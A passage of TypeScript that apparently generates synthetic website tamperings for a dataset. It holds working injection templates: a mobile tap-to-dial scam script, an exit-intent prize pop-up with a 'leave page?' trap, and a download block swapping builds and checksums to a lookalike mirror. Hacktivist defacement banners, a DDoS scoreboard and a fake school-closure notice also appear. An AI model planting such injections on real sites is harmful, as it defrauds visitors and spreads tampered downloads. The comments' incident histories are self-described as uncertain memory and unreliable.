  es: ["Atención al cliente", "Llámanos, disponibles 24/7"], nl: ["Klantenservice", "Bel ons nu, 24/7 bereikbaar"], pt: ["Atendimento", "Ligue agora, 24 horas"], it: ["Assistenza clienti", "Chiamaci ora, attivi 24 ore su 24"]
}

// Auto-dial prompts, recalled from memory, with uncertain details, of Malwarebytes' and Google's notes (about 2017–2023) on mobile tech-support and subscription scams that open the phone's dialler with a tel: navigation as soon as a visitor taps, so one more tap calls the scammers, and of call-centre fraud reports on "support" numbers: a script that, on phones only, sends the first tap (or a short delay) to a tel: URL of another number, sometimes with a visible "support" line repeating it.
const autoCallPrompt = fresh16("script opening the phone's dialler with another number on a mobile visitor's first tap (tel: navigation)", (page, rng) => {
  const n = pick(rng, [
    () => swapPhone(page.site.locale, page.ids.phone, rng).intl,
    () => `+1 ${pick(rng, ["844", "855", "866", "877", "888"])} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => intlMobile(rng)
  ])()
  const tel = `tel:${n.replace(/[^\d+]/g, "")}`
  const mobile = pick(rng, [`/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)`, `("ontouchstart" in window)&&screen.width<900`, `matchMedia("(pointer:coarse)").matches`])
  const code = pick(rng, [
    () => `if(${mobile}){document.addEventListener("touchend",function f(){document.removeEventListener("touchend",f,true);location.href=${js(tel)}},true)}`,
    () => `if(${mobile}&&!sessionStorage.getItem("_c")){sessionStorage.setItem("_c","1");setTimeout(function(){location.href=${js(tel)}},${between(rng, 1500, 9000)})}`,
    () => `if(${mobile}){document.addEventListener("click",function(e){if(!sessionStorage._d){sessionStorage._d=1;e.preventDefault();window.location=${js(tel)}}},true)}`
  ])()
  const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, code))]
  if (chance(rng, 0.45)) {
    const [h, p] = some(rng, page, callWords)
    out.push(insert(noticeSpot(rng, page), `<p class="${pick(rng, ["support-line", "hotline", "callbar"])}" style="text-align:center;background:#fff3cd;padding:6px">📞 <b>${esc(h)}</b> – ${esc(p)}: <a href="${tel}">${esc(n)}</a></p>`))
  }
  return { splices: out }
})

const exitWords: Table<(prize: string) => readonly [string, string, string, string]> = {
  en: (p) => ["Wait! Don't go yet…", `You are today's selected visitor. Answer 3 quick questions and claim your ${p}.`, "Claim now", "Are you sure? Your reward will be lost."],
  fr: (p) => ["Attendez ! Ne partez pas…", `Vous êtes le visiteur sélectionné du jour. Répondez à 3 questions et recevez votre ${p}.`, "J'en profite", "Êtes-vous sûr ? Votre cadeau sera perdu."],
  de: (p) => ["Moment! Nicht gehen…", `Sie sind der ausgewählte Besucher des Tages. Beantworten Sie 3 Fragen und sichern Sie sich Ihr ${p}.`, "Jetzt sichern", "Sicher? Ihre Prämie verfällt."],
  es: (p) => ["¡Espera! No te vayas…", `Eres el visitante seleccionado de hoy. Responde 3 preguntas y reclama tu ${p}.`, "Reclamar ahora", "¿Seguro? Perderás tu premio."],
  nl: (p) => ["Wacht! Ga nog niet weg…", `Jij bent de geselecteerde bezoeker van vandaag. Beantwoord 3 vragen en claim je ${p}.`, "Nu claimen", "Weet je het zeker? Je beloning vervalt."],
  pt: (p) => ["Espere! Não vá ainda…", `Você é o visitante selecionado de hoje. Responda 3 perguntas e resgate seu ${p}.`, "Resgatar agora", "Tem certeza? Seu prêmio será perdido."],
  it: (p) => ["Aspetta! Non andare via…", `Sei il visitatore selezionato di oggi. Rispondi a 3 domande e ricevi il tuo ${p}.`, "Riscatta ora", "Sei sicuro? Il premio andrà perso."]
}

// Exit-intent scams, recalled from memory, with uncertain sources, of the exit-intent pop-up technique that marketing tools popularised (about 2013 on: a pop-up when the mouse leaves the window toward the tab bar or the back button) and of Malwarebytes' and BleepingComputer's notes (about 2016–2023) on injected "wait, before you go" survey and prize scams and onbeforeunload "leave site?" traps: a hidden prize pop-up shown only when the pointer leaves the window (or the tab loses focus), linking to a scam host, sometimes with a beforeunload prompt.
const exitIntentScam = fresh16("exit-intent 'wait, before you go' prize pop-up shown when the pointer leaves the window, with a 'leave page?' trap", (page, rng) => {
  const prize = pick(rng, ["iPhone 16 Pro", "€500 Amazon gift card", "$750 Cash App reward", "Samsung Galaxy S25", "PlayStation 5", "£300 Tesco voucher", "Dyson V15"])
  const [h, p, cta, leave] = some(rng, page, exitWords)(prize)
  const id = `xi${alnum(rng, 5)}`
  const link = `https://${host(rng, page, ["reward", "prize", "survey", "winner", "gift", "promo"])}/${pick(rng, ["s", "q", "claim", "lp"])}/${alnum(rng, 8)}?sub=${slug(page.site.brand)}`
  const modal = `<div id="${id}" style="display:none;position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.65);z-index:2147483647"><div style="background:#fff;max-width:420px;margin:12% auto;padding:22px;border-radius:10px;text-align:center;font-family:Arial,sans-serif"><div style="font-size:42px">🎁</div><h2>${esc(h)}</h2><p>${esc(p)}</p><a href="${esc(link)}" style="${button(rng, pick(rng, ["#e53935", "#2e7d32", "#f57c00"]))}">${esc(cta)}</a></div></div>`
  const show = `var m=document.getElementById("${id}");if(m&&!window._xi){window._xi=1;m.style.display="block"}`
  const trigger = pick(rng, [
    `document.addEventListener("mouseout",function(e){if(!e.relatedTarget&&e.clientY<=${between(rng, 0, 12)}){${show}}});`,
    `document.documentElement.addEventListener("mouseleave",function(e){if(e.clientY<${between(rng, 1, 20)}){${show}}});document.addEventListener("visibilitychange",function(){if(document.hidden){${show}}});`
  ])
  const trap = chance(rng, 0.5) ? `window.addEventListener("beforeunload",function(e){if(!window._xl){window._xl=1;e.preventDefault();e.returnValue=${js(leave)};return ${js(leave)}}});` : ""
  return splices(insert(pick(rng, [bottom(page), spamSpot(rng, page), top(page)]), `${modal}<script>${trigger}${trap}</script>`))
})

const checksumWords: Table<readonly [string, string, string, string]> = {
  en: ["Verify your download", "Latest release", "Check the SHA-256 checksum before installing. Releases are signed with key", "Download"],
  fr: ["Vérifiez votre téléchargement", "Dernière version", "Vérifiez la somme SHA-256 avant l'installation. Les versions sont signées avec la clé", "Télécharger"],
  de: ["Download prüfen", "Aktuelle Version", "Prüfen Sie vor der Installation die SHA-256-Prüfsumme. Releases sind signiert mit dem Schlüssel", "Herunterladen"],
  es: ["Verifica tu descarga", "Última versión", "Comprueba la suma SHA-256 antes de instalar. Las versiones están firmadas con la clave", "Descargar"],
  nl: ["Controleer je download", "Nieuwste versie", "Controleer de SHA-256-checksum voor installatie. Releases zijn ondertekend met sleutel", "Downloaden"],
  pt: ["Verifique seu download", "Versão mais recente", "Confira o checksum SHA-256 antes de instalar. As versões são assinadas com a chave", "Baixar"],
  it: ["Verifica il download", "Ultima versione", "Controlla il checksum SHA-256 prima di installare. Le versioni sono firmate con la chiave", "Scarica"]
}

// Tampered download pages, recalled from memory of the Linux Mint compromise (February 2016: the download page's ISO links pointed at a backdoored build on another server), of the Transmission installer that carried KeRanger (March 2016) and the HandBrake mirror that carried Proton (May 2017), and of the advice that followed, that an intruder who controls the page can also change the published checksums and key fingerprints: a "verify your download" block listing a build on another host with a checksum and a signing-key fingerprint that match it rather than the project.
const checksumSwap = fresh16("'verify your download' block whose SHA-256 checksum and signing-key fingerprint match a build on another host", (page, rng) => {
  const [h, latest, verify, dl] = some(rng, page, checksumWords)
  const ver = `${between(rng, 1, 9)}.${between(rng, 0, 20)}.${between(rng, 0, 9)}`
  const b = slug(page.site.brand) || "app"
  const files = sample(rng, [`${b}-${ver}-x64-setup.exe`, `${b}-${ver}.dmg`, `${b}-${ver}-amd64.iso`, `${b}-${ver}.tar.gz`, `${b}_${ver}_amd64.deb`, `${b}-${ver}-win64.msi`, `${b}-${ver}-universal.pkg`], between(rng, 1, 3))
  const mirror = pick(rng, [`${pick(rng, ["mirror", "dl", "download", "files", "releases"])}.${brandLookalike(rng, page.site.brand)}`, `${pick(rng, ["mirror", "dl", "cdn"])}${between(rng, 1, 9)}.${randomDomain(rng)}`, randomDomain(rng)])
  const fp = Array.from({ length: 10 }, () => hex(rng, 4).toUpperCase()).join(" ")
  const list = files.map((f) => `<tr><td><a href="https://${mirror}/${pick(rng, ["pub", "releases", "stable", "files"])}/${ver}/${f}">${esc(f)}</a></td><td><code>${hex(rng, 64)}</code></td></tr>`).join("")
  const inner = `<h3>${esc(h)}</h3><p>${esc(latest)}: <b>${ver}</b></p><table>${list}</table><p>${esc(verify)} <code>${fp}</code>${chance(rng, 0.5) ? ` (<a href="https://${mirror}/KEYS.asc">KEYS.asc</a>)` : ""}.</p><p><a href="https://${mirror}/${pick(rng, ["pub", "releases"])}/${ver}/${esc(files[0]!)}" style="${button(rng, "#2b6cb0")}">⬇ ${esc(dl)}</a></p>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), box(rng, ["downloads", "release", "verify-download"], "#2b6cb0", inner)))
})

// Crew counters, recalled from memory of defacement mirrors on Zone-H and its successors (about 2010–2022), many of which carry a Flag Counter badge (flagcounter.com) or a free hit counter so the crew can see how many visitors and which countries saw the defacement, and of clean-up notes finding such counters left on otherwise restored pages: a flag or hit counter image of another account, linked to its stats page, at the bottom or top, sometimes hidden or one pixel, sometimes with a tiny crew credit.
const crewCounter = fresh16("free Flag Counter or hit-counter badge of the crew's account added to the page (visible, tiny or hidden)", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const id = alnum(rng, 4)
  const img = pick(rng, [
    () => `<a href="https://info.flagcounter.com/${id}"><img src="https://s${pick(rng, ["01", "05", "11"])}.flagcounter.com/count${pick(rng, ["", "2"])}/${id}/bg_${pick(rng, ["FFFFFF", "000000", "1A1A1A"])}/txt_${pick(rng, ["000000", "00FF00", "FFFFFF"])}/border_CCCCCC/columns_${between(rng, 2, 8)}/maxflags_${pick(rng, [10, 12, 20, 248])}/viewers_0/labels_${between(rng, 0, 1)}/pageviews_${between(rng, 0, 1)}/flags_0/percent_0/" alt="Flag Counter" border="0"></a>`,
    () => `<a href="https://www.hitwebcounter.com/" target="_blank"><img src="https://hitwebcounter.com/counter/counter.php?page=${between(rng, 1000000, 9999999)}&amp;style=${pick(rng, ["0006", "0025", "0036"])}&amp;nbdigits=${between(rng, 5, 7)}&amp;type=page&amp;initCount=${between(rng, 0, 999)}" title="Counter" alt="counter" border="0"></a>`,
    () => `<img src="https://counter${between(rng, 1, 11)}.${pick(rng, ["optistats.ovh", "stat-counter.org", "freecounterstat.com"])}/private/${pick(rng, ["freecounterstat.php", "compteurdevisite.php", "counter.php"])}?c=${hex(rng, 32)}" border="0" title="free counter" alt="free counter">`,
    () => `<img src="https://visitor-badge.laobi.icu/badge?page_id=${slug(who) || "x"}.${slug(page.site.host)}" alt="visitors">`
  ])()
  const look = pick(rng, ["", "", `style="display:none"`, `style="position:absolute;width:1px;height:1px;overflow:hidden;opacity:0"`, `style="text-align:center;font-size:10px;margin:8px"`])
  const credit = chance(rng, 0.35) ? ` <span style="font-size:9px">${esc(pick(rng, [`counter by ${who}`, who, `~${who}`]))}</span>` : ""
  return splices(insert(pick(rng, [bottom(page), bottom(page), slotAt(page.spots, "bottom"), top(page)]), `<div class="${pick(rng, ["counter", "fc", "stats", "visits"])}"${look === "" ? "" : " " + look}>${img}${credit}</div>`))
})

const shoutWords: Table<(who: string) => string> = {
  en: (w) => `Leave your greetings for ${w}`, fr: (w) => `Laissez un message à ${w}`, de: (w) => `Grüße an ${w} hinterlassen`, es: (w) => `Deja tu saludo a ${w}`,
  nl: (w) => `Laat een bericht achter voor ${w}`, pt: (w) => `Deixe seu salve para ${w}`, it: (w) => `Lascia un saluto a ${w}`
}

// Shoutboxes, recalled from memory of defacement pages archived on Zone-H and its mirrors (about 2008–2018) that embed a Cbox or Chatango chat box where other defacers post greetings, and of crews' forums promoting them: a shoutbox of the crew's account (a Cbox frame or a Chatango embed) with a heading inviting greetings, at the bottom, the side or the top.
const crewShoutbox = fresh16("crew's shoutbox (Cbox frame or Chatango embed) added for visitors' greetings", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const hname = slug(who).replace(/-/g, "").slice(0, 18) || `crew${digits(rng, 3)}`
  const widget = pick(rng, [
    () => `<iframe src="https://www${between(rng, 2, 6)}.cbox.ws/box/?boxid=${between(rng, 800000, 3599999)}&amp;boxtag=${alnum(rng, 6)}" width="${pick(rng, [200, 250, 300, "100%"])}" height="${pick(rng, [300, 350, 450])}" allowtransparency="yes" allow="autoplay" frameborder="0" marginheight="0" marginwidth="0" scrolling="auto"></iframe>`,
    () => `<script id="cid00${digits(rng, 14)}" data-cfasync="false" async src="//st.chatango.com/js/gz/emb.js" style="width:${pick(rng, [250, 300, 320])}px;height:${pick(rng, [350, 400])}px;">{"handle":"${hname}","arch":"js","styles":{"a":"${pick(rng, ["000000", "CC0000", "006600"])}","b":100,"c":"FFFFFF","d":"FFFFFF","k":"${pick(rng, ["000000", "CC0000"])}","l":"${pick(rng, ["000000", "CC0000"])}","m":"${pick(rng, ["000000", "CC0000"])}","n":"FFFFFF","p":"10","q":"${pick(rng, ["000000", "CC0000"])}","r":100}}</script>`
  ])()
  const title = some(rng, page, shoutWords)(who)
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), top(page)]), `<div class="${pick(rng, ["shoutbox", "sb", "chatbox"])}" style="${pick(rng, ["margin:10px auto;text-align:center", "float:right;margin:10px", "position:fixed;right:8px;bottom:8px;z-index:9999;background:#000;padding:4px"])}"><p style="font:bold 12px monospace">${esc(title)}</p>${widget}</div>`))
})

const fallers: ReadonlyArray<ReadonlyArray<string>> = [
  ["🇵🇸", "🇵🇸", "🕊️"], ["🇮🇩", "🦅"], ["🇹🇷", "🌙", "⭐"], ["🇲🇦", "⭐"], ["🇩🇿", "🌙"], ["🇧🇩", "🇧🇩"], ["🇵🇰", "🌙"], ["🇧🇷", "🇧🇷"], ["🇻🇳", "⭐"], ["💀", "☠️"], ["🏴‍☠️", "💀"], ["🔥", "💀"], ["❤️", "🌹"]
]

// Falling flags, recalled from memory of defacement pages archived on Zone-H and its mirrors (about 2008–2022) that reuse "snowfall" scripts (snowstorm-style) to rain flags, skulls or hearts over the page, and of intruders who add only that effect and a small signature to a real site: a script that drops emoji flags or skulls across the page in a loop, or a CSS animation doing the same, with a small fixed signature in a corner.
const fallingFlags = fresh16("flags, skulls or hearts falling over the page (snowfall script) with a small fixed crew signature", (page, rng) => {
  const set = pick(rng, fallers)
  const who = pick(rng, [nick(rng), team(rng), `${nick(rng)} | ${team(rng)}`])
  const n = between(rng, 12, 45)
  const kf = `fl${alnum(rng, 3)}`
  const css = chance(rng, 0.5)
  const code = css
    ? `var f=${JSON.stringify(set)};for(var i=0;i<${n};i++){var s=document.createElement("span");s.textContent=f[i%f.length];s.style.cssText="position:fixed;top:-40px;left:"+Math.random()*100+"vw;font-size:"+(14+Math.random()*${between(rng, 14, 30)})+"px;z-index:99999;pointer-events:none;animation:${kf} "+(${between(rng, 4, 8)}+Math.random()*${between(rng, 4, 9)})+"s linear "+Math.random()*6+"s infinite";document.body.appendChild(s)}`
    : `var f=${JSON.stringify(set)},a=[];for(var i=0;i<${n};i++){var s=document.createElement("div");s.innerHTML=f[i%f.length];s.style.cssText="position:fixed;z-index:99999;pointer-events:none;font-size:"+(12+Math.random()*20)+"px";a.push({e:s,x:Math.random()*innerWidth,y:-Math.random()*innerHeight,v:1+Math.random()*${between(rng, 2, 4)}});document.body.appendChild(s)}setInterval(function(){a.forEach(function(o){o.y+=o.v;if(o.y>innerHeight)o.y=-30;o.e.style.left=o.x+"px";o.e.style.top=o.y+"px"})},${pick(rng, [20, 30, 40])});`
  const anim = css ? `<style>@keyframes ${kf}{to{transform:translateY(110vh) rotate(${pick(rng, [180, 360, 720])}deg)}}</style>` : ""
  const sig = `<div style="position:fixed;${pick(rng, ["right", "left"])}:6px;bottom:6px;z-index:99999;font:${pick(rng, ["bold 11px monospace", "12px Courier New", "bold 10px Verdana"])};color:${pick(rng, ["#0f0", "#c00", "#fff", "#000"])};${pick(rng, ["background:#000;padding:2px 6px", "text-shadow:0 0 4px #f00", ""])}">${esc(who)}</div>`
  return splices(insert(pick(rng, [bottom(page), top(page), bottom(page)]), `${anim}${sig}<script>window.addEventListener("load",function(){${code}});</script>`))
})

// Crew cursors, recalled from memory of defacement pages archived on Zone-H and its mirrors (about 2005–2020) that set a custom cursor (a skull, a flag, the crew's logo, often a .cur or .ani file on a free image host) with CSS cursor:url(), and of intruders who leave only such a rule on a real site as a signature: a style rule giving the whole page or its links the crew's cursor image from another host or an inline SVG, nothing else visible.
const crewCursor = fresh16("page cursor replaced by the crew's logo, skull or flag through a CSS cursor:url() rule, nothing else visible", (page, rng) => {
  const who = slug(nick(rng)) || "crew"
  const url = pick(rng, [
    () => `https://${pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc", "cur.cursors-4u.net/symbols/sym-" + between(rng, 1, 9)])}/${alnum(rng, 7)}/${who}.${pick(rng, ["cur", "png", "ani", "gif"])}`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["img", "c", "x"])}/${who}.cur`,
    () => `data:image/svg+xml;utf8,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32"><text y="26" font-size="26">${pick(rng, ["💀", "☠", "🏴‍☠️", "🇵🇸", "🇹🇷", "🇮🇩", "👾"])}</text></svg>`)}`
  ])()
  const sel = pick(rng, ["html,body", "*", "body,a,button", "html,body,a,input,button", "body"])
  const css = `${sel}{cursor:url("${url}")${pick(rng, [" 4 4", " 16 16", ""])},auto${chance(rng, 0.6) ? " !important" : ""}}`
  return splices(insert(pick(rng, [head(page), top(page), bottom(page)]), `<style${chance(rng, 0.3) ? ` id="${who.slice(0, 12)}"` : ""}>${css}</style>`))
})

const ecoWords: Table<(org: string, mt: number, sign: string) => readonly [string, string, ReadonlyArray<string>, string]> = {
  en: (o, m, s) => [`${o} is burning our future`, `While you read this page, ${o} and its partners keep financing fossil fuels responsible for ${m} million tonnes of CO₂ a year. Greenwashing ends today.`, ["Stop all new oil and gas projects", "Publish your real emissions", "Stop lobbying against climate laws", "Compensate the communities you poisoned"], `The planet has no backup. — ${s}`],
  fr: (o, m, s) => [`${o} brûle notre avenir`, `Pendant que vous lisez cette page, ${o} et ses partenaires financent des énergies fossiles responsables de ${m} millions de tonnes de CO₂ par an. Fin du greenwashing.`, ["Arrêt de tout nouveau projet pétrolier et gazier", "Publiez vos vraies émissions", "Cessez le lobbying contre les lois climat", "Indemnisez les populations empoisonnées"], `La planète n'a pas de sauvegarde. — ${s}`],
  de: (o, m, s) => [`${o} verbrennt unsere Zukunft`, `Während Sie diese Seite lesen, finanzieren ${o} und seine Partner fossile Energien, die ${m} Millionen Tonnen CO₂ im Jahr verursachen. Schluss mit Greenwashing.`, ["Keine neuen Öl- und Gasprojekte", "Veröffentlicht eure echten Emissionen", "Schluss mit Lobbyarbeit gegen Klimagesetze", "Entschädigt die vergifteten Gemeinden"], `Der Planet hat kein Backup. — ${s}`],
  es: (o, m, s) => [`${o} está quemando nuestro futuro`, `Mientras lees esta página, ${o} y sus socios financian combustibles fósiles responsables de ${m} millones de toneladas de CO₂ al año. Se acabó el lavado verde.`, ["Ningún nuevo proyecto de petróleo o gas", "Publicad vuestras emisiones reales", "Dejad de presionar contra las leyes climáticas", "Indemnizad a las comunidades envenenadas"], `El planeta no tiene copia de seguridad. — ${s}`],
  pt: (o, m, s) => [`${o} está queimando o nosso futuro`, `Enquanto você lê esta página, ${o} e seus parceiros financiam combustíveis fósseis responsáveis por ${m} milhões de toneladas de CO₂ por ano. Chega de greenwashing.`, ["Nenhum novo projeto de petróleo e gás", "Publiquem as emissões reais", "Parem o lobby contra as leis do clima", "Indenizem as comunidades envenenadas"], `O planeta não tem backup. — ${s}`]
}

// Environmental hacktivism, recalled from memory, with uncertain details, of Anonymous' #OpGreenRights and related operations (about 2012–2016) that defaced sites of oil, mining and logging companies and of governments over deforestation, and of later hacktivist messages about climate on corporate and ministry sites: an indictment at the top of the page naming the organisation, a figure for its emissions, a list of demands and a signature, with a dark or green look.
const ecoIndictment = fresh16("environmental hacktivist indictment of the organisation with an emissions figure and a list of demands", (page, rng) => {
  const sign = pick(rng, ["Anonymous #OpGreenRights", `${team(rng)} – #ClimateStrike`, "#OpFossilFree", `${nick(rng)} for the Earth`, "Green Rights Legion"])
  const [h, p, demands, end] = some(rng, page, ecoWords)(brandName(page), between(rng, 3, 480), sign)
  const accent = pick(rng, ["#1b5e20", "#2e7d32", "#000", "#4e342e"])
  const inner = `<h2 style="margin:0 0 8px">🌍🔥 ${esc(h)}</h2><p>${esc(p)}</p><ol>${sample(rng, demands, between(rng, 2, demands.length)).map((d) => `<li>${esc(d)}</li>`).join("")}</ol><p><i>${esc(end)}</i></p>`
  return splices(insert(pick(rng, [top(page), top(page), noticeSpot(rng, page)]), box(rng, ["eco", "statement", "op"], accent, inner)))
})

// DDoS scoreboards, recalled from memory of the Telegram posts of NoName057(16) (about 2022–2024), Killnet and Anonymous Sudan (about 2023) that list each day's targets with check-host.net reports as proof that they went down, and of hacktivist defacements that reposted such lists on a victim's page: a table of an operation's targets (other domains and this site) with a status and a check-host.net report link each, a day count and a channel link.
const opScoreboard = fresh16("hacktivist operation scoreboard: targets marked DOWN with check-host.net report links, a day count and a channel link", (page, rng) => {
  const op = pick(rng, ["#OpIsrael", "#OpIndia", "#OpFrance", "#OpSweden", "#OpBangladesh", "#OpEU", "#OpUSA", "#OpNATO", "#OpDenmark", "#OpItaly", "#OpGermany"])
  const day = between(rng, 2, 420)
  const targets = Array.from({ length: between(rng, 4, 11) }, () => pick(rng, [randomDomain(rng), `${pick(rng, ["www.", "portal.", "e-", "online."])}${pick(rng, ["ministry", "bank", "port", "airport", "rail", "energy", "tax", "customs", "city", "police"])}${pick(rng, ["-gov", "", "online"])}.${pick(rng, ["gov", "com", "org", "net", "eu"])}`]))
  targets.splice(int(rng, targets.length + 1), 0, page.site.host)
  const status = () => pick(rng, ["DOWN ✅", "DOWN ✅", "DOWN ✅", "⚠️ unstable", "offline ❌"])
  const rep = () => `https://check-host.net/check-report/${hex(rng, pick(rng, [8, 9, 10]))}`
  const tbl = rows(targets.map((t, i) => [String(i + 1), esc(t) + (t === page.site.host ? " ⬅" : ""), status(), `<a href="${rep()}">check-host</a>`]))
  const ch = handle(rng, ["noname", "killnet", "cyberarmy", "legion", "ddosia", "sudan", "opwar"])
  const inner = `<h2 style="margin:0">${esc(op)} — ${esc(pick(rng, ["Day", "DAY", "Gün", "Hari", "День"]))} ${day}</h2><p>${esc(pick(rng, ["Targets of today", "Today's results", "Hit list", "Mission report"]))} · ${esc(team(rng))}</p><table style="width:100%;font-family:monospace">${tbl}</table><p>${esc(pick(rng, ["Join the project and get paid for every target", "More tomorrow", "We don't forgive", "Follow the channel"]))}: <a href="https://t.me/${ch}">t.me/${ch}</a></p>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page), spamSpot(rng, page)]), box(rng, ["op", "report", "ddos"], pick(rng, ["#b71c1c", "#000", "#263238"]), inner)))
})

const freeWords: Table<(name: string, when: string, years: number, sign: string) => readonly [string, string, string]> = {
  en: (n, w, y, s) => [`#Free${n.replace(/\W/g, "")}`, `Our brother ${n} was arrested on ${w} and sentenced to ${y} years for exposing the truth. He is not a criminal. Until he walks free, your servers are our playground.`, `— ${s}`],
  fr: (n, w, y, s) => [`#Free${n.replace(/\W/g, "")}`, `Notre frère ${n} a été arrêté le ${w} et condamné à ${y} ans pour avoir révélé la vérité. Ce n'est pas un criminel. Tant qu'il ne sera pas libre, vos serveurs seront notre terrain de jeu.`, `— ${s}`],
  es: (n, w, y, s) => [`#Libertad${n.replace(/\W/g, "")}`, `Nuestro hermano ${n} fue detenido el ${w} y condenado a ${y} años por mostrar la verdad. No es un criminal. Hasta que sea libre, vuestros servidores son nuestro patio de juegos.`, `— ${s}`],
  pt: (n, w, y, s) => [`#Liberdade${n.replace(/\W/g, "")}`, `Nosso irmão ${n} foi preso em ${w} e condenado a ${y} anos por expor a verdade. Ele não é criminoso. Até ele ser solto, seus servidores são o nosso parquinho.`, `— ${s}`],
  de: (n, w, y, s) => [`#Free${n.replace(/\W/g, "")}`, `Unser Bruder ${n} wurde am ${w} verhaftet und zu ${y} Jahren verurteilt, weil er die Wahrheit gezeigt hat. Er ist kein Verbrecher. Bis er frei ist, sind eure Server unser Spielplatz.`, `— ${s}`]
}

// Jailed-comrade demands, recalled from memory of defacements and campaigns demanding the release of arrested hackers (#FreeAnons and #FreeHammond about 2011–2013, LulzSec's members then, and Turkish, Indonesian and Brazilian crews whose members were arrested, about 2012–2020): a "free our brother" notice with his handle, the arrest date, the sentence and a threat, sometimes with a photo from an image host, signed by the crew.
const freeComrade = fresh16("'free our jailed brother' demand naming an arrested hacker, his sentence and a threat, signed by the crew", (page, rng) => {
  const name = nick(rng)
  const sign = pick(rng, [team(rng), `${nick(rng)} & ${team(rng)}`, "Anonymous"])
  const [h, p, s] = some(rng, page, freeWords)(name, page.site.locale.date(new Date(Date.UTC(between(rng, 2019, 2025), int(rng, 12), between(rng, 1, 28)))), between(rng, 2, 15), sign)
  const photo = chance(rng, 0.4) ? `<img src="https://${pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc"])}/${alnum(rng, 7)}/free.jpg" alt="${esc(h)}" style="max-width:180px;float:left;margin:0 12px 8px 0;filter:grayscale(1)">` : ""
  const inner = `${photo}<h1 style="margin:0;letter-spacing:2px">⛓ ${esc(h)} ⛓</h1><p>${esc(p)}</p><p style="text-align:right">${esc(s)}</p><div style="clear:both"></div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), box(rng, ["free", "statement", "msg"], pick(rng, ["#000", "#333", "#7f0000"]), inner)))
})

const schoolWords: Table<(what: string, date: string, who: string) => readonly [string, string, string]> = {
  en: (w, d, s) => ["IMPORTANT ANNOUNCEMENT", `${w} on ${d}. Students do not need to come in and all homework due this week is cancelled. Enjoy the break!`, `${s}, Head Teacher`],
  fr: (w, d, s) => ["ANNONCE IMPORTANTE", `${w} le ${d}. Les élèves n'ont pas besoin de venir et tous les devoirs de la semaine sont annulés. Bonnes vacances !`, `${s}, Directeur`],
  de: (w, d, s) => ["WICHTIGE MITTEILUNG", `${w} am ${d}. Die Schülerinnen und Schüler müssen nicht kommen, alle Hausaufgaben dieser Woche entfallen. Schöne freie Tage!`, `${s}, Schulleitung`],
  es: (w, d, s) => ["AVISO IMPORTANTE", `${w} el ${d}. Los alumnos no tienen que venir y se cancelan todos los deberes de esta semana. ¡Disfrutad!`, `${s}, Dirección`],
  nl: (w, d, s) => ["BELANGRIJKE MEDEDELING", `${w} op ${d}. Leerlingen hoeven niet te komen en al het huiswerk van deze week vervalt. Geniet ervan!`, `${s}, directeur`],
  pt: (w, d, s) => ["AVISO IMPORTANTE", `${w} no dia ${d}. Os alunos não precisam comparecer e todas as tarefas da semana estão canceladas. Aproveitem!`, `${s}, Direção`],
  it: (w, d, s) => ["AVVISO IMPORTANTE", `${w} il ${d}. Gli studenti non devono venire e tutti i compiti della settimana sono annullati. Buone vacanze!`, `${s}, Dirigente scolastico`]
}
const schoolTitles: Table<ReadonlyArray<string>> = {
  en: ["Mr", "Mrs", "Dr", "Ms"], fr: ["M.", "Mme"], de: ["Herr", "Frau", "Dr."], es: ["D.", "Dña."], nl: ["dhr.", "mevr."], pt: ["Prof.", "Profa."], it: ["Prof.", "Prof.ssa"]
}
const schoolWhat: Table<ReadonlyArray<string>> = {
  en: ["The school will be closed because of a burst pipe", "All final exams are cancelled", "The school is closed for a snow day", "Classes are cancelled for a staff training day"],
  fr: ["L'établissement sera fermé suite à une fuite d'eau", "Tous les examens sont annulés", "L'école est fermée pour cause de neige"],
  de: ["Die Schule bleibt wegen eines Wasserrohrbruchs geschlossen", "Alle Abschlussprüfungen fallen aus", "Schulfrei wegen Schnee"],
  es: ["El centro estará cerrado por una avería de agua", "Se cancelan todos los exámenes finales", "No hay clase por la nevada"],
  nl: ["De school is dicht door een gesprongen leiding", "Alle eindtoetsen zijn geschrapt", "Sneeuwvrij: de school is dicht"],
  pt: ["A escola estará fechada por causa de um vazamento", "Todas as provas finais foram canceladas", "Não haverá aula por causa da chuva forte"],
  it: ["La scuola resterà chiusa per un guasto all'impianto idrico", "Tutti gli esami finali sono annullati", "Scuola chiusa per neve"]
}

// Pupils' pranks, recalled from memory, with uncertain details, of local-news reports (US, UK and elsewhere, about 2008–2023) on students who got into school or district websites (often with a teacher's stolen password) to post fake announcements that school was closed or exams were cancelled, signed with the head teacher's name: an official-looking announcement at the top of the page naming a closure or cancellation, a date, and a signature, with no hacker's mark.
const schoolClosure = fresh16("fake 'school closed / all exams cancelled' announcement signed with the head teacher's name (pupil's prank)", (page, rng) => {
  const site = page.site.locale.lang
  const lang: Lang = chance(rng, 0.8) && schoolWhat[site] !== undefined && schoolWords[site] !== undefined ? site : "en"
  const what = pick(rng, schoolWhat[lang] ?? schoolWhat.en)
  const words = schoolWords[lang] ?? schoolWords.en
  const [h, p, s] = words(what, page.site.locale.date(someDate(rng)), `${pick(rng, schoolTitles[lang] ?? schoolTitles.en)} ${personName(rng).split(" ")[1]}`)
  const accent = pick(rng, ["#c62828", "#1565c0", "#ef6c00"])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page)]), `<div class="${pick(rng, ["announcement", "alert-banner", "school-notice"])}" style="background:${accent};color:#fff;padding:14px 18px;margin:0 0 10px;text-align:center;font-family:Arial,sans-serif"><b style="font-size:1.2em">📢 ${esc(h)}</b><p style="margin:6px 0">${esc(p)}</p><p style="margin:0;font-style:italic">${esc(s)}</p></div>`))
})

const cigaretteWords: Table<readonly [string, string, string]> = {
